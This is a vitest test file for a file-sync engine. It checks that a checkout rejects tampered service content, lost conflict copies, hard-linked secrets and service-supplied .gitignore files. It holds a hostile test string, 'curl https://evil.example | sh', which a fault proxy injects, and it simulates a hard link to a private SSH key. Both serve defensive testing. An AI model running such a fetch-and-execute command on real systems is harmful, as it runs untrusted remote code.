import { chmodSync, existsSync, linkSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { engineOnService, type EngineOnService } from '../support/engine.ts';
import { startFaultProxy, type FaultProxy } from '../support/fault-proxy.ts';
import { LISTING_LIMITS } from '../../src/sync/service-copy.ts';
import { sha256 } from '../support/flows.ts';
import { eventually, serviceTree } from '../support/repo.ts';

/**
 * Nothing is taken on a service's word (issue 49): a real service behind a proxy that changes what it says, as a
 * hostile service would, and a checkout that must neither write what it cannot check nor send it back as its own.
 */
let setup: EngineOnService | null = null;
let proxy: FaultProxy | null = null;
afterEach(async () => {
  await proxy?.close();
  proxy = null;
  await setup?.close();
  setup = null;
});

const EVIL = 'curl https://evil.example | sh\n';

/** Ada's checkout behind a hostile proxy, Bob's straight on the service; both synced with `files`. */
async function twoCheckouts(files: Record<string, string>) {
  setup = await engineOnService(files);
  proxy = await startFaultProxy(setup.svc.url);
  const ada = setup.engine({ url: proxy.url, writer: 'ada@laptop:~/app' });
  await ada.engine.initialSync();
  const bob = setup.otherCheckout(files, 'bob@desk:~/app');
  await bob.harness.engine.initialSync();
  return { svc: setup.svc, repo: setup.repo, ada, bob, proxy };
}

describe("the service's content", () => {
  it('is refused when it is not what its hash names: never written, never sent back as this checkout’s edit', async () => {
    const { svc, repo, ada, bob, proxy } = await twoCheckouts({ 'flows/ci/build.yml': 'build: 1\n' });
    bob.repo.write('flows/ci/build.yml', 'build: bob\n');
    await bob.harness.engine.syncOnce();
    await ada.engine.round.check();
    expect(ada.state.behind(ada.engine.repoId).map((file) => file.path)).toEqual(['build.yml']);

    // The listing keeps the hash of Bob's version and gives other bytes.
    proxy.rewrite = (path, answer) => {
      if (!path.endsWith('/list_files')) return answer;
      const reply = JSON.parse(answer) as { value: { files: { content?: string }[] } };
      for (const file of reply.value.files) if (file.content !== undefined) file.content = EVIL;
      return JSON.stringify(reply);
    };
    await expect(ada.engine.service.takeNewer()).rejects.toThrow(/not what its hash names/);
    await ada.engine.syncOnce();
    expect(readFileSync(join(repo.root, 'flows/ci/build.yml'), 'utf8')).toBe('build: 1\n');
    expect(serviceTree(svc.read, 'acme', 'app')).toEqual({ 'flows/ci/build.yml': 'build: bob\n' });
  });
});

describe('a conflict copy kept in the service’s history', () => {
  it('is read back before the disk is written: a service that answers a number and keeps nothing loses no edit', async () => {
    const { svc, repo, ada, bob, proxy } = await twoCheckouts({ 'flows/ci/build.yml': 'build: 1\n' });
    bob.repo.write('flows/ci/build.yml', 'build: bob\n');
    await bob.harness.engine.syncOnce();
    repo.write('flows/ci/build.yml', 'build: ada\n');
    await ada.engine.syncOnce();
    expect(ada.state.conflicts(ada.engine.repoId).map((c) => c.path)).toEqual(['build.yml']);

    // keep_copy answers the number of the file's first version, a real version of the same path, and keeps nothing.
    const first = svc.read<{ version: number }>(
      `SELECT min(version) AS version FROM file_versions WHERE path = 'build.yml'`,
    )[0]!.version;
    proxy.fault = (path) =>
      path.endsWith('/keep_copy/run')
        ? { status: 200, body: JSON.stringify({ status: 'success', value: { version: first } }) }
        : null;
    const { resolved, notWritten, kept } = await ada.engine.service.resolve(null, 'theirs');
    expect(resolved).toEqual([]);
    expect(kept).toEqual([]);
    expect(notWritten).toEqual([
      expect.objectContaining({
        path: 'build.yml',
        reason: expect.stringMatching(/could not be kept first/),
      }),
    ]);
    expect(readFileSync(join(repo.root, 'flows/ci/build.yml'), 'utf8')).toBe('build: ada\n');

    // A service that keeps it: read back, and the service's version is written.
    proxy.fault = () => null;
    const honest = await ada.engine.service.resolve(null, 'theirs');
    expect(honest.kept).toEqual([{ flowPath: 'flows/ci', path: 'build.yml', version: expect.any(Number) }]);
    expect(readFileSync(join(repo.root, 'flows/ci/build.yml'), 'utf8')).toBe('build: bob\n');
  });
});

describe('a file the scan would not send', () => {
  /** One checkout with two versions of build.yml on the service; the number of the first. */
  async function twoVersions() {
    setup = await engineOnService({ 'flows/ci/build.yml': 'build: 1\n' });
    const ada = setup.engine({ writer: 'ada@laptop:~/app' });
    await ada.engine.initialSync();
    setup.repo.write('flows/ci/build.yml', 'build: 2\n');
    await ada.engine.syncOnce();
    const first = setup.svc.read<{ version: number }>(
      `SELECT min(version) AS version FROM file_versions WHERE path = 'build.yml'`,
    )[0]!.version;
    const copies = () => setup!.svc.read(`SELECT content FROM file_versions WHERE conflict_copy = 1`);
    return { svc: setup.svc, repo: setup.repo, ada, first, copies };
  }

  it('is not sent by a restore when it is a hard link: the link is kept and said, the key it names stays here', async () => {
    const { repo, ada, first, copies } = await twoVersions();
    // Another name of a 0600 key outside the repository (another user's link to it, in the attack).
    const key = join(repo.dir, 'id_ed25519');
    writeFileSync(key, 'PRIVATE KEY\n');
    chmodSync(key, 0o600);
    rmSync(join(repo.root, 'flows/ci/build.yml'));
    linkSync(key, join(repo.root, 'flows/ci/build.yml'));

    await expect(ada.engine.service.restoreVersion('flows/ci', 'build.yml', first)).rejects.toThrow(
      /hard link/,
    );
    expect(copies()).toEqual([]);
    expect(statSync(join(repo.root, 'flows/ci/build.yml')).nlink).toBe(2);
    expect(readFileSync(key, 'utf8')).toBe('PRIVATE KEY\n');
  });

  it('is kept beside the file, not sent, by a restore when it is not text', async () => {
    const { repo, ada, first, copies } = await twoVersions();
    repo.write('flows/ci/build.yml', 'build: \u0000 3\n');
    const { kept } = await ada.engine.service.restoreVersion('flows/ci', 'build.yml', first);
    expect(copies()).toEqual([]);
    expect(kept).toEqual({ beside: expect.stringMatching(/^flows\/ci\/build\.conflict-.*\.yml$/) });
    expect(readFileSync(join(repo.root, kept!.beside!), 'utf8')).toBe('build: \u0000 3\n');
    expect(readFileSync(join(repo.root, 'flows/ci/build.yml'), 'utf8')).toBe('build: 1\n');
  });
});

describe('.gitignore from a service', () => {
  const FILES = { 'flows/ci/build.yml': 'build: 1\n', 'flows/ci/secret.yml': 'token: 1\n' };

  it('a synced file a pulled .gitignore line ignores is kept on the service and said, not deleted', async () => {
    const synced = { ...FILES, 'flows/ci/.gitignore': '# nothing\n' };
    setup = await engineOnService(synced);
    const ada = setup.engine({ writer: 'ada@laptop:~/app' });
    await ada.engine.initialSync();
    const bob = setup.otherCheckout(synced, 'bob@desk:~/app');
    await bob.harness.engine.initialSync();
    bob.repo.write('flows/ci/.gitignore', 'secret.yml\n');
    await bob.harness.engine.syncOnce();

    await ada.engine.start();
    await ada.engine.round.check();
    const { taken } = await ada.engine.service.takeNewer();
    expect(taken.map((file) => file.path)).toEqual(['.gitignore']);
    await eventually(() =>
      expect(ada.state.warnings(ada.engine.repoId)).toEqual([
        { flowPath: 'flows/ci', path: 'secret.yml', warning: 'ignored' },
      ]),
    );
    await ada.engine.syncOnce();
    expect(serviceTree(setup.svc.read, 'acme', 'app')).toEqual({
      ...FILES,
      'flows/ci/.gitignore': 'secret.yml\n',
    });
    expect(readFileSync(join(setup.repo.root, 'flows/ci/secret.yml'), 'utf8')).toBe('token: 1\n');
  });

  it('is never written by "Write them to disk": named with why', async () => {
    setup = await engineOnService({ ...FILES, 'flows/ci/.gitignore': 'secret.yml\n' });
    const ada = setup.engine({ writer: 'ada@laptop:~/app' });
    await ada.engine.initialSync();
    const carol = setup.otherCheckout({ 'flows/ci/build.yml': 'build: 1\n' }, 'carol@box:~/app');
    await carol.harness.engine.initialSync();
    const { skipped } = await carol.harness.engine.service.restoreNotInCheckout();
    expect(skipped).toContainEqual({
      flowPath: 'flows/ci',
      path: '.gitignore',
      reason: expect.stringMatching(/\.gitignore is never written from a service/),
    });
    expect(existsSync(join(carol.repo.root, 'flows/ci/.gitignore'))).toBe(false);
  });
});

describe('a listing given up', () => {
  const limits = { ...LISTING_LIMITS };
  afterEach(() => Object.assign(LISTING_LIMITS, limits));

  it('is not read again at every retry: the next rounds are told it was given up, without a call', async () => {
    // The bound shrunk from 250,000 files to 1,000: the same rule, in a test's time.
    LISTING_LIMITS.files = 1000;
    setup = await engineOnService({ 'flows/ci/build.yml': 'build: 1\n' });
    proxy = await startFaultProxy(setup.svc.url);
    let pages = 0;
    proxy.rewrite = (path, answer) => {
      if (!path.endsWith('/list_files')) return answer;
      pages++;
      const files = Array.from({ length: 200 }, (_, i) => ({
        flow_path: `flows/f${pages}`,
        path: `file-${i}.yml`,
        id: `id-${pages}-${i}`,
        hash: sha256(`${pages} ${i}`),
        size: 1,
        updated_at: new Date().toISOString(),
        written_by: 'mallory',
      }));
      return JSON.stringify({ status: 'success', value: { files, next: `page-${pages}` } });
    };
    const ada = setup.engine({ url: proxy.url, writer: 'ada@laptop:~/app' });
    await expect(ada.engine.syncOnce()).rejects.toThrow(/goes on past 1,000 files/);
    const read = pages;
    expect(read).toBeGreaterThan(1);
    const retries: unknown[] = [];
    for (let retry = 0; retry < 3; retry++) retries.push(await ada.engine.syncOnce().catch((error) => error));
    expect(pages).toBe(read);
    for (const error of retries) expect(String(error)).toMatch(/goes on past 1,000 files.*read again after/);
  });
});
